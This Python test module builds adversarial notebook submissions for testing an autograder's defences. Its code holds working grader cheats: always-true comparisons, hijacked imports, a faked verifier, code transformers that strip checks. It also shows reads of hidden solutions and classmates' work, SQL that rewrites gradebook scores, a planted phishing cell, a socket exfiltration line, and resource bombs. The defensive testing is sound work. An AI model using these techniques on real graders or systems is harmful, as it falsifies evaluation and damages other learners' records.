"""The hostile submissions of "score-a-vendor", one builder per case.

Every builder takes a :class:`~tests.grading.adversarial.kit.BuildContext`, writes the learner's
submission folder, and returns the points its typed-in answers honestly earn when that depends
on the learner's variant (``None`` otherwise: the manifest states the bound).

Safety rules every builder keeps, because today's pipeline runs learner code unsandboxed:
- every loop, allocation and process count has a hard bound of its own (a loop stops after
  10 minutes, the fork bomb makes at most 50 processes that exit after 2 s);
- writes aim only at the temporary course directory or the harness's scratch folder;
- the only network target is the harness's listener on 127.0.0.1, its port written in at build
  time;
- the case that kills its parent process checks first that the parent is the grading command.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import textwrap

from tests.grading.adversarial.kit import (
    ASSIGNMENT,
    NO_ANSWERS,
    NOTEBOOK,
    SOURCE,
    VARIABLES,
    BuildContext,
    answered,
    append,
    cell_of,
    decoy_values,
    graded_cells,
    legit_points,
    new_code_cell,
    prepend,
    reference_sources,
    reference_values,
    release_copy,
    set_answer,
    type_in,
    write_notebook,
)

# --- the honest learner -------------------------------------------------------------------


def honest(ctx: BuildContext) -> None:
    """The reference answers and a memo: full autograded marks."""
    write_notebook(ctx, answered(ctx))


# --- the file itself is the attack ----------------------------------------------------------


def invalid_json(ctx: BuildContext) -> None:
    text = json.dumps(answered(ctx), indent=1)
    ctx.target.write_text(text[: len(text) // 2], encoding="utf-8")


def empty_file(ctx: BuildContext) -> None:
    ctx.target.write_bytes(b"")


def wrong_nbformat(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    notebook.nbformat = 5
    write_notebook(ctx, notebook)


def not_a_notebook(ctx: BuildContext) -> None:
    ctx.target.write_text('["this", "is", "valid JSON", "but not a notebook"]\n', encoding="utf-8")


def json_nesting_bomb(ctx: BuildContext) -> None:
    depth = 200_000
    ctx.target.write_text("[" * depth + "]" * depth, encoding="utf-8")


def non_utf8_content(ctx: BuildContext) -> None:
    data = json.dumps(answered(ctx), indent=1).encode("utf-8")
    ctx.target.write_bytes(data.replace(b'"source": "', b'"source": "\xff\xfe', 1))


def non_utf8_file_name(ctx: BuildContext) -> None:
    write_notebook(ctx, answered(ctx))
    (ctx.folder / os.fsdecode(b"notes-\xe9\xff.txt")).write_text("my notes\n", encoding="utf-8")


def non_utf8_notebook_name(ctx: BuildContext) -> None:
    write_notebook(ctx, answered(ctx), ctx.folder / os.fsdecode(b"score-a-vendor-\xff.ipynb"))


def symlink_outside(ctx: BuildContext) -> None:
    # The link points at a scratch copy of the source notebook (solutions, hidden tests), never at
    # the repository: a pipeline that writes through the link must not damage the exercise.
    target = ctx.scratch / "symlink-target" / NOTEBOOK
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(SOURCE, target)
    ctx.target.symlink_to(target)


def non_string_source(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    for answer_cell in VARIABLES:
        cell_of(notebook, answer_cell).source = 42
    write_notebook(ctx, notebook)


# --- locked cells, grade ids, points and nbgrader metadata ---------------------------------


def edited_test_cells(ctx: BuildContext) -> None:
    notebook = release_copy(ctx)
    for cell in graded_cells(notebook):
        cell.source = "pass"
    write_notebook(ctx, notebook)


def deleted_test_cells(ctx: BuildContext) -> None:
    notebook = release_copy(ctx)
    graded = {id(cell) for cell in graded_cells(notebook)}
    notebook.cells = [cell for cell in notebook.cells if id(cell) not in graded]
    write_notebook(ctx, notebook)


def markdown_test_cells(ctx: BuildContext) -> None:
    notebook = release_copy(ctx)
    for cell in graded_cells(notebook):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
    write_notebook(ctx, notebook)


def stripped_test_metadata(ctx: BuildContext) -> None:
    notebook = release_copy(ctx)
    for cell in graded_cells(notebook):
        del cell.metadata["nbgrader"]
        cell.source = "pass"
    write_notebook(ctx, notebook)


def setup_cell_edited(ctx: BuildContext) -> None:
    notebook = release_copy(ctx)
    answers = "\n\n".join(reference_sources()[a] for a in VARIABLES)
    cell_of(notebook, "setup").source += "\n\n# answered where no one checks\n" + answers
    cell_of(notebook, "intro").source = "# Nothing to see here"
    write_notebook(ctx, notebook)


def points_raised(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    for cell in graded_cells(notebook):
        cell.metadata["nbgrader"]["points"] = 100
    write_notebook(ctx, notebook)


def grade_ids_renamed(ctx: BuildContext) -> None:
    notebook = release_copy(ctx)
    for cell in graded_cells(notebook):
        cell.metadata["nbgrader"]["grade_id"] = "renamed-" + cell.metadata["nbgrader"]["grade_id"]
        cell.source = "pass"
    write_notebook(ctx, notebook)


def fake_grade_cell(ctx: BuildContext) -> None:
    notebook = release_copy(ctx)
    bonus = {
        "grade": True,
        "grade_id": "bonus",
        "locked": True,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    notebook.cells.append(new_code_cell('"""Check that the bonus is earned"""\npass', bonus))
    write_notebook(ctx, notebook)


def duplicated_test_cell(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    original = cell_of(notebook, "weighted-totals")
    duplicate = copy.deepcopy(original)
    duplicate["id"] = "weighted-totals-copy"
    notebook.cells.insert(notebook.cells.index(original) + 1, duplicate)
    write_notebook(ctx, notebook)


def foreign_schema_version(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    cell_of(notebook, "a1").metadata["nbgrader"]["schema_version"] = 10
    write_notebook(ctx, notebook)


def old_schema_version(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    cell_of(notebook, "a1").metadata["nbgrader"]["schema_version"] = 1
    write_notebook(ctx, notebook)


# --- time, memory, output and the kernel's life ---------------------------------------------

BOUNDED_LOOP = """
import time
deadline = time.monotonic() + 600  # bounded: stops after 10 minutes if nothing stops it
while time.monotonic() < deadline:
    pass
"""


def _last_part(ctx: BuildContext, code: str) -> None:
    """Parts 1-3 answered right, part 4's answer cell replaced by ``code``."""
    notebook = answered(ctx, skip=["a4"])
    set_answer(notebook, "a4", code)
    write_notebook(ctx, notebook)


def infinite_loop(ctx: BuildContext) -> None:
    _last_part(ctx, BOUNDED_LOOP)


def loop_ignores_sigint(ctx: BuildContext) -> None:
    _last_part(ctx, "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n" + BOUNDED_LOOP)


def loop_swallows_interrupt(ctx: BuildContext) -> None:
    _last_part(
        ctx,
        """
import time
deadline = time.monotonic() + 600  # bounded: stops after 10 minutes if nothing stops it
while time.monotonic() < deadline:
    try:
        time.sleep(0.5)
    except KeyboardInterrupt:
        pass
""",
    )


def memory_bomb_8gib(ctx: BuildContext) -> None:
    # One 8 GiB request: fails at once under an address-space limit (the harness always sets
    # one); without a limit it would really take 8 GiB.
    _last_part(ctx, "blob = bytearray(8 * 1024**3)")


def memory_bomb_growing(ctx: BuildContext) -> None:
    _last_part(
        ctx,
        """
chunks = []
while len(chunks) < 256:  # bounded at 16 GiB: stops there if nothing stops it first
    chunks.append(bytearray(64 * 1024**2))
""",
    )


def huge_output_line(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    append(notebook, "a1", 'print("x" * 10_000_000)  # one 10 MB line')
    write_notebook(ctx, notebook)


def huge_display_data(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    append(
        notebook,
        "a1",
        "from IPython.display import HTML, display\n"
        'display(HTML("<p>" + "y" * 20_000_000 + "</p>"))  # 20 MB of HTML',
    )
    write_notebook(ctx, notebook)


def huge_error_message(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    append(notebook, "a1", 'raise ValueError("e" * 30_000_000)  # a 30 MB error message')
    write_notebook(ctx, notebook)


def many_large_errors(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    for answer_cell in ("a1", "a2", "a3", "a4"):
        append(notebook, answer_cell, 'raise ValueError("e" * 3_000_000)  # 3 MB each')
    write_notebook(ctx, notebook)


_ON_THE_CHANNEL = """
import os, socket, struct, time
descriptor = os.environ.get("AUTOGRADER_VERIFY_FD")  # only under the isolated runner
if descriptor:
    channel = socket.socket(fileno=int(descriptor))
{write}
    channel.detach()
    time.sleep(120)  # bounded
"""


def channel_unknown_message(ctx: BuildContext) -> None:
    body = b'{"type": "full-marks-now"}'
    write = f"    channel.sendall(struct.pack('>I', {len(body)}) + {body!r})"
    _last_part(ctx, _ON_THE_CHANNEL.format(write=write))


def channel_oversized_frame(ctx: BuildContext) -> None:
    write = "    channel.sendall(struct.pack('>I', 2**31) + b'{')  # claims 2 GiB"
    _last_part(ctx, _ON_THE_CHANNEL.format(write=write))


def channel_trickle(ctx: BuildContext) -> None:
    write = (
        "    channel.sendall(struct.pack('>I', 8_000_000))  # a frame within the limit...\n"
        "    for _ in range(600):  # ...whose body comes a byte a second (bounded: 10 minutes)\n"
        "        channel.send(b'{')\n"
        "        time.sleep(1)"
    )
    _last_part(ctx, _ON_THE_CHANNEL.format(write=write))


def many_slow_cells(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    for _ in range(12):  # 12 x 110 s: each under the 120 s cell timeout, 22 minutes in all
        notebook.cells.append(new_code_cell("import time\ntime.sleep(110)"))
    write_notebook(ctx, notebook)


def sys_exit(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    append(notebook, "a2", "import sys\nsys.exit(0)")
    write_notebook(ctx, notebook)


def exit_builtin(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    append(notebook, "a4", "exit()")
    write_notebook(ctx, notebook)


def _first_part_then(ctx: BuildContext, code: str) -> None:
    """Part 1 answered right, then ``code`` in part 2's answer cell."""
    notebook = answered(ctx, skip=["a2", "a3", "a4"])
    set_answer(notebook, "a2", code)
    write_notebook(ctx, notebook)


def os_exit(ctx: BuildContext) -> None:
    _first_part_then(ctx, "import os\nos._exit(0)")


def segfault(ctx: BuildContext) -> None:
    _first_part_then(ctx, "import ctypes\nctypes.string_at(0)")


def kill_grader(ctx: BuildContext) -> None:
    notebook = release_copy(ctx)
    set_answer(
        notebook,
        "a1",
        """
import os, pathlib, signal
parent = os.getppid()
command = pathlib.Path(f"/proc/{parent}/cmdline").read_bytes()
# Only ever the grading command itself: never a Jupyter server or anything else.
if os.environ.get("NBGRADER_EXECUTION") == "autograde" and b"autograder" in command:
    os.kill(parent, signal.SIGKILL)
    os._exit(0)
""",
    )
    write_notebook(ctx, notebook)


# --- cheats inside the kernel ----------------------------------------------------------------

HELPERS = ("expect_number", "expect_numbers_by_key", "expect_name", "expect_names")


def _cheat_with_no_answers(ctx: BuildContext, cheat: str) -> None:
    notebook = release_copy(ctx)
    set_answer(notebook, "a1", textwrap.dedent(cheat).strip() + "\n\n" + NO_ANSWERS)
    write_notebook(ctx, notebook)


def _cheat_with_decoys(ctx: BuildContext, cheat: str) -> float:
    values = decoy_values(ctx.learner)
    notebook = type_in(ctx, values)
    prepend(notebook, "a1", textwrap.dedent(cheat))
    write_notebook(ctx, notebook)
    return legit_points(ctx, values)


def eq_always_true(ctx: BuildContext) -> None:
    notebook = release_copy(ctx)
    set_answer(
        notebook,
        "a1",
        """
class Anything(dict):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None


class Number(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


class Names(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


class Name(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = str.__hash__


weighted_totals = Anything({vendor: Number(0) for vendor in case.vendors})
disqualified = Names()
ranking = Names(case.vendors)
recommended = Name(case.vendors[0])
most_sensitive_criterion = Name(case.criteria[0])
break_even_weight = Number(0.5)
""",
    )
    write_notebook(ctx, notebook)


IMPORT_HIJACK = f"""
import builtins, types

_real_import = builtins.__import__


def _fake(name):
    module = types.ModuleType(name)
    module.__path__ = []
    module.verify = lambda *args, **kwargs: None
    for helper in {HELPERS!r}:
        setattr(module, helper, lambda *args, **kwargs: None)
    return module


_fakes = {{n: _fake(n) for n in ("autograder", "autograder.checks", "autograder.checks.shape")}}


def _hijacked(name, globals=None, locals=None, fromlist=(), level=0):
    if level == 0 and name in _fakes:
        return _fakes[name] if fromlist else _fakes[name.split(".")[0]]
    return _real_import(name, globals, locals, fromlist, level)


builtins.__import__ = _hijacked
"""


def import_hijack(ctx: BuildContext) -> None:
    _cheat_with_no_answers(ctx, IMPORT_HIJACK)


def meta_path_hijack(ctx: BuildContext) -> None:
    _cheat_with_no_answers(
        ctx,
        f"""
        import importlib.abc, importlib.util, sys


        class FakeChecks(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            names = {{"autograder", "autograder.checks", "autograder.checks.shape"}}

            def find_spec(self, name, path=None, target=None):
                if name in self.names:
                    return importlib.util.spec_from_loader(name, self, is_package=True)
                return None

            def create_module(self, spec):
                return None

            def exec_module(self, module):
                module.verify = lambda *args, **kwargs: None
                for helper in {HELPERS!r}:
                    setattr(module, helper, lambda *args, **kwargs: None)


        sys.meta_path.insert(0, FakeChecks())
        for loaded in [m for m in sys.modules if m.split(".")[0] == "autograder"]:
            del sys.modules[loaded]
        """,
    )


PATCH_SUBPROCESS = """
import json, subprocess


class _Verdict:
    returncode = 0
    stdout = json.dumps({"passed": True}) + "\\n"
    stderr = ""


subprocess.run = lambda *args, **kwargs: _Verdict()
"""


def patched_subprocess(ctx: BuildContext) -> float:
    return _cheat_with_decoys(ctx, PATCH_SUBPROCESS)


def fake_verifier_executable(ctx: BuildContext) -> float:
    return _cheat_with_decoys(
        ctx,
        """
        import pathlib, sys

        fake = pathlib.Path("fake-python").resolve()
        fake.write_text("#!/bin/sh\\necho '{\\"passed\\": true}'\\n")
        fake.chmod(0o755)
        sys.executable = str(fake)
        """,
    )


def redefined_assert_helpers(ctx: BuildContext) -> None:
    _cheat_with_no_answers(
        ctx,
        f"""
        import autograder.checks as checks
        import autograder.checks.shape as shape
        import autograder.checks.verify as verify_module


        def _nothing(*args, **kwargs):
            return None


        for helper in {HELPERS!r}:
            setattr(shape, helper, _nothing)
            globals()[helper] = _nothing
        verify_module.verify = checks.verify = verify = _nothing
        """,
    )


def showtraceback_patch(ctx: BuildContext) -> None:
    _cheat_with_no_answers(
        ctx,
        """
        from IPython.core.interactiveshell import InteractiveShell

        InteractiveShell.showtraceback = lambda *args, **kwargs: None
        get_ipython().showtraceback = lambda *args, **kwargs: None
        """,
    )


def shadow_package(ctx: BuildContext) -> None:
    _cheat_with_no_answers(ctx, "# the fake package next to this notebook does the work")
    package = ctx.folder / "autograder"
    (package / "checks").mkdir(parents=True)
    (package / "__init__.py").write_text("", encoding="utf-8")
    nothing = "def _nothing(*args, **kwargs):\n    return None\n\n"
    helpers = "".join(f"{helper} = _nothing\n" for helper in HELPERS)
    (package / "checks" / "__init__.py").write_text(nothing + "verify = _nothing\n", "utf-8")
    (package / "checks" / "shape.py").write_text(nothing + helpers, encoding="utf-8")
    (package / "checks" / "exercise.py").write_text(
        nothing + "start_exercise = _nothing\n", encoding="utf-8"
    )


def spoof_learner_id(ctx: BuildContext) -> float:
    friend = ctx.peers["honest"]
    values = reference_values(friend)  # a classmate's right answers, typed in
    notebook = type_in(ctx, values)
    prepend(notebook, "a1", f'import os\nos.environ["COURSE_LEARNER_ID"] = {friend!r}')
    write_notebook(ctx, notebook)
    return legit_points(ctx, values)


def cwd_learner_spoof(ctx: BuildContext) -> float:
    friend = ctx.peers["honest"]
    values = reference_values(friend)
    fake = ctx.scratch / "cwd-spoof" / friend / ASSIGNMENT
    notebook = type_in(ctx, values)
    prepend(
        notebook,
        "a1",
        f"import os, pathlib\nfake = pathlib.Path({str(fake)!r})\n"
        "fake.mkdir(parents=True, exist_ok=True)\nos.chdir(fake)",
    )
    write_notebook(ctx, notebook)
    return legit_points(ctx, values)


def detect_grading(ctx: BuildContext) -> float:
    cheat = textwrap.indent(PATCH_SUBPROCESS.strip(), "    ")
    return _cheat_with_decoys(
        ctx, f'import os\nif os.environ.get("NBGRADER_EXECUTION") == "autograde":\n{cheat}\n'
    )


# --- the file system, other learners, processes and the network ----------------------------

FIND_SOURCE = """
import json, pathlib, re

config = pathlib.Path("../../../nbgrader_config.py").read_text()
source_dir = pathlib.Path(re.search(r"source_directory = '([^']+)'", config).group(1))
source = json.loads((source_dir / "score-a-vendor" / "score-a-vendor.ipynb").read_text())


def _text(cell):
    return cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
"""


def read_solutions(ctx: BuildContext) -> None:
    notebook = release_copy(ctx)
    set_answer(notebook, "a1", NO_ANSWERS)
    append(notebook, "a1", FIND_SOURCE)
    append(
        notebook,
        "a1",
        """
for cell in source["cells"]:
    meta = cell.get("metadata", {}).get("nbgrader", {})
    if meta.get("solution") and cell["cell_type"] == "code":
        exec(_text(cell), globals())
""",
    )
    write_notebook(ctx, notebook)


def read_hidden_tests(ctx: BuildContext) -> None:
    _cheat_with_no_answers(
        ctx,
        FIND_SOURCE
        + """
for cell in source["cells"]:
    if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
        print(_text(cell))
""",
    )


def copy_other_submission(ctx: BuildContext) -> None:
    friend = ctx.peers["honest"]
    notebook = release_copy(ctx)
    set_answer(
        notebook,
        "a1",
        f"""
import json, pathlib

theirs = pathlib.Path("../../../submitted/{friend}/{ASSIGNMENT}/{NOTEBOOK}")
for cell in json.loads(theirs.read_text())["cells"]:
    if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") in {tuple(VARIABLES)!r}:
        source = cell["source"]
        exec(source if isinstance(source, str) else "".join(source), globals())
""",
    )
    write_notebook(ctx, notebook)


SET_SCORES = """
import sqlite3

gradebook = sqlite3.connect("../../../gradebook.db", timeout=60)
gradebook.execute(
    '''UPDATE grade SET manual_score = {score} WHERE notebook_id IN (
           SELECT submitted_notebook.id FROM submitted_notebook
           JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id
           WHERE submitted_assignment.student_id = ?)''',
    ({learner!r},),
)
gradebook.commit()
gradebook.close()
"""


def gradebook_self_grade(ctx: BuildContext) -> None:
    score = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
    _cheat_with_no_answers(ctx, SET_SCORES.format(score=score, learner=ctx.learner))


def gradebook_tamper_other(ctx: BuildContext) -> None:
    _cheat_with_no_answers(ctx, SET_SCORES.format(score=0, learner=ctx.peers["victim-early"]))


def write_release(ctx: BuildContext) -> None:
    _cheat_with_no_answers(
        ctx,
        f"""
        import json, pathlib

        release = pathlib.Path("../../../release/{ASSIGNMENT}/{NOTEBOOK}")
        notebook = json.loads(release.read_text())
        notebook["cells"].insert(0, {{
            "cell_type": "markdown", "id": "phish", "metadata": {{}},
            "source": "Log in again at the course's new address to submit this exercise.",
        }})
        release.write_text(json.dumps(notebook))
        """,
    )


def write_outside_course(ctx: BuildContext) -> None:
    marker = ctx.scratch / "outside" / f"{ctx.learner}.txt"
    _cheat_with_no_answers(
        ctx,
        f"""
        import pathlib

        marker = pathlib.Path({str(marker)!r})
        marker.parent.mkdir(parents=True, exist_ok=True)
        marker.write_text("written from the grading kernel")
        """,
    )


def sabotage_later_learner(ctx: BuildContext) -> None:
    victim = ctx.peers["victim-late"]
    _cheat_with_no_answers(
        ctx,
        f"""
        import shutil

        shutil.copyfile(
            "../../../release/{ASSIGNMENT}/{NOTEBOOK}",
            "../../../submitted/{victim}/{ASSIGNMENT}/{NOTEBOOK}",
        )
        """,
    )


def spawn_detached(ctx: BuildContext) -> None:
    marker = ctx.scratch / "survivors" / f"{ctx.learner}.txt"
    child = (
        "import pathlib, time; time.sleep(20); "
        f"p = pathlib.Path({str(marker)!r}); p.parent.mkdir(parents=True, exist_ok=True); "
        "p.write_text('outlived the grading')"
    )
    notebook = answered(ctx)
    append(
        notebook,
        "a1",
        f"""
import subprocess, sys

subprocess.Popen(
    [sys.executable, "-c", {child!r}],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
""",
    )
    write_notebook(ctx, notebook)


def fork_bomb_bounded(ctx: BuildContext) -> None:
    notebook = answered(ctx)
    append(
        notebook,
        "a1",
        """
import os, time

children = []
for _ in range(50):  # bounded: at most 50 processes, each gone after 2 s
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(2)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
print(f"forked {len(children)} processes")
""",
    )
    write_notebook(ctx, notebook)


def socket_exfiltrate(ctx: BuildContext) -> None:
    _cheat_with_no_answers(
        ctx,
        f"""
        import pathlib, socket

        payload = {ctx.learner.encode()!r} + b": " + pathlib.Path(
            "../../../nbgrader_config.py"
        ).read_bytes()[:200]
        with socket.create_connection(("127.0.0.1", {ctx.port}), timeout=5) as connection:
            connection.sendall(payload)
        """,
    )


# --- the machine's shared resources: disk, memory across processes, CPU (issue 23, item 2) ---


def _answered_then(ctx: BuildContext, code: str) -> None:
    """Every answer right, then ``code`` in a cell of its own after the last one."""
    notebook = answered(ctx)
    notebook.cells.append(new_code_cell(code))
    write_notebook(ctx, notebook)


def fill_disk(ctx: BuildContext) -> None:
    _answered_then(
        ctx,
        """
import os

written = 0
try:
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
        for part in range(64):  # bounded: at most 4 x 64 x 16 MiB
            with open(os.path.join(folder, f"fill-{part}.bin"), "wb") as out:
                out.write(b"x" * (16 * 1024**2))
            written += 16
except OSError as error:
    print(f"stopped after {written} MiB: {error}")
""",
    )


def memory_in_many_processes(ctx: BuildContext) -> None:
    _answered_then(
        ctx,
        """
import os, time

children = []
for _ in range(6):  # bounded: 6 processes of 600 MiB each, gone after 6 s
    pid = os.fork()
    if pid == 0:
        try:
            size = 600 * 1024**2
            block = bytearray(size)
            block[::4096] = b"x" * (size // 4096)  # touch every page: really held
            time.sleep(6)
        finally:
            os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
""",
    )


def cpu_hog_new_sessions(ctx: BuildContext) -> None:
    # The harness's folder is named in each busy process's command line, so one that outlived
    # its grading would be listed among the processes left behind.
    _answered_then(
        ctx,
        f"""
import subprocess, sys, time

spin = (
    "import time; end = time.monotonic() + 30  # {ctx.scratch}\\n"
    "while time.monotonic() < end: pass"
)
for _ in range(6):  # bounded: 6 busy processes of 30 s, each in a session of its own
    subprocess.Popen([sys.executable, "-c", spin], start_new_session=True)
time.sleep(8)
""",
    )


# --- what the sandbox shows (issue 23, item 5) -------------------------------------------------


def read_course_by_absolute_path(ctx: BuildContext) -> None:
    from course.catalog import REPO_ROOT

    friend = ctx.peers["honest"]
    _cheat_with_no_answers(
        ctx,
        f"""
        import os, pathlib

        course = pathlib.Path({str(ctx.course_root)!r})
        for name in ("adversarial-roster.csv", "nbgrader_config.py", "gradebook.db"):
            try:
                print(name, (course / name).read_bytes()[:2000])
            except OSError as error:
                print(name, "not readable:", type(error).__name__)
        friend = course / "submitted" / {friend!r} / "{ASSIGNMENT}" / "{NOTEBOOK}"
        try:
            print(friend.read_text()[:5000])
        except OSError as error:
            print("classmate not readable:", type(error).__name__)
        source = pathlib.Path({str(REPO_ROOT / "exercises" / ASSIGNMENT / NOTEBOOK)!r})
        try:
            print(source.read_text()[:100000])
        except OSError as error:
            print("source not readable:", type(error).__name__)
        print(sorted(os.listdir("/")))
        """,
    )


def call_reference_code(ctx: BuildContext) -> None:
    notebook = release_copy(ctx)
    set_answer(
        notebook,
        "a1",
        textwrap.dedent(
            """
        import importlib

        reference = importlib.import_module("autograder.checks.exercises.score_a_vendor")
        mine = reference.exercise_case(case.learner_id)
        weighted_totals = reference.reference_totals(mine)
        disqualified = reference.reference_disqualified(mine)
        ranking = reference.reference_ranking(mine)
        recommended = ranking[0]
        """
        ),
    )
    write_notebook(ctx, notebook)


# --- transformers: nbgrader's own autograde gave them full marks (issue 23, item 6) -----------


def input_transformer(ctx: BuildContext) -> None:
    _cheat_with_no_answers(
        ctx,
        """
        def _nothing_to_check(lines):
            text = "".join(lines)
            return ["pass\\n"] if "verify(" in text or "check_answer(" in text else lines


        get_ipython().input_transformers_post.append(_nothing_to_check)
        """,
    )


def ast_transformer(ctx: BuildContext) -> None:
    _cheat_with_no_answers(
        ctx,
        """
        import ast


        class _NoChecks(ast.NodeTransformer):
            def visit_Call(self, node):
                name = getattr(node.func, "id", getattr(node.func, "attr", ""))
                if name in ("verify", "check_answer"):
                    return ast.Constant(None)
                return self.generic_visit(node)


        get_ipython().ast_transformers.append(_NoChecks())
        """,
    )
